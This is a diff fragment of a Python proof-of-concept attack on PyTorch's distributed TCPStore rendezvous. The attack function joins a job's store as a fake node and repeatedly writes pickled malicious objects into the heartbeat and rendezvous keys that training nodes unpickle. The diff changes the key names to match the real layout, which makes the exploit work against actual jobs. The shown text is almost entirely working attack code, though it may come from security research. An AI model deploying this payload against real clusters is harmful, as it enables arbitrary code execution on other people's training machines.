@@ -142,14 +142,14 @@ def attack(host: str, port: int, witness: str) -> None:
     """Another process that reaches the rendezvous of a job puts pickles wherever nodes read."""
     crime = pickle.dumps(_Crime(witness))
     store = TCPStore(host, port, None, False, wait_for_workers=False)
-    num_pages = store.add("none/pages", 1)
-    store.set(f"none/page/{num_pages}", "the attacker")
-    store.set("none/news/the attacker", crime)
-    ids = [store.get(f"none/page/{page}").decode() for page in range(1, num_pages)]
+    num_nodes = store.add("none/num_nodes", 1)
+    store.set(f"none/node/{num_nodes}", "the attacker")
+    store.set("none/heartbeat/the attacker", crime)
+    ids = [store.get(f"none/node/{number}").decode() for number in range(1, num_nodes)]
     with suppress(DistNetworkError):  # the job may be over before that
         for _ in range(20):  # the nodes write theirs again and again
             for id in ids:
-                store.set(f"none/news/{id}", crime)
+                store.set(f"none/heartbeat/{id}", crime)
             store.set("torch.rendezvous.none", b64encode(crime).decode())
             time.sleep(0.05)
     print("OUTCOME {}", flush=True)
